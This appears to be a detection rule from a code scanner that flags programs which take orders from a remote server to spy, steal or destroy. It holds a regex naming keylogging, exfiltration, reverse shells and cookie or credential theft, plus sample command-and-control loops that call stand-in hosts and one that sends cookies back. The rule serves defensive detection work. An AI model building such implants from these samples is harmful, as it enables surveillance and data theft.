import { argument, COMPARED_ANSWER, call, says } from "../match.ts";
import { defineRule } from "../rule.ts";

export default defineRule({
  id: "harm-on-command",
  category: "remote_code_download",
  severity: "high",
  confidence: "high",
  languages: ["python", "javascript"],
  title: "a program waits for orders to spy, steal or destroy",
  why: "A server tells it what to do to the machine, and what it can be told has no honest use.",
  fix: "Delete the program.",
  references: ["ATT&CK T1071.001", "ATT&CK T1056.001", "CWE-506"],
  match: call({
    of: [COMPARED_ANSWER],
    where: argument(
      1,
      says(
        /(^|[^A-Za-z]|start|stop|run)(key-?_?logg?(er|ing|s)?|exfil(trate)?|d?dos|(syn|udp|http)-?_?flood|ransom(ware)?|steal(er)?|reverse-?_?shell|self-?_?destruct)([^a-z]|$)|(dump|grab|steal|harvest)[-_. ]?(all)?[-_. ]?(browser|chrome|saved|local|session)?[-_. ]?(cookie|passw|cred|token|wallet|storage|history)|(cookie|password|credential|token|wallet|storage)s?[-_. ]?(dump|grab|steal)/i,
      ),
    ),
  }),
  bad: [
    {
      "a.py":
        "import requests, time\nwhile True:\n    task = requests.get('https://panel.example/next').json()\n    if task['do'] == 'start_keylogger':\n        listen()\n    time.sleep(5)\n",
    },
    {
      "a.js":
        "async function poll() {\n  const tasks = await (await fetch(panel + id)).json();\n  for (const task of tasks) {\n    switch (task.action) {\n      case 'localstoragedump':\n        dump();\n        break;\n    }\n  }\n}\npoll();\n",
    },
    {
      "a.py":
        "import socket\ns = socket.create_connection(('203.0.113.9', 4444))\nwhile True:\n    order = s.recv(1024).decode().strip()\n    match order:\n        case 'grab_cookies':\n            s.send(cookies())\n",
    },
  ],
  good: [
    {
      "a.py":
        "import requests\nstate = requests.get('https://ci.example/build').json()\nif state['status'] == 'failed':\n    print('failed')\nelif state['status'] == 'token_expired':\n    login()\n",
    },
    {
      "a.js": "const kind = process.argv[2];\nswitch (kind) {\n  case 'keylogger':\n    console.log('T1056.001');\n}\n",
    },
    {
      "a.js":
        "const r = await fetch('https://api.example/alerts');\nconst alert = await r.json();\nif (alert.type === 'credential_stuffing') page(alert);\n",
    },
  ],
});
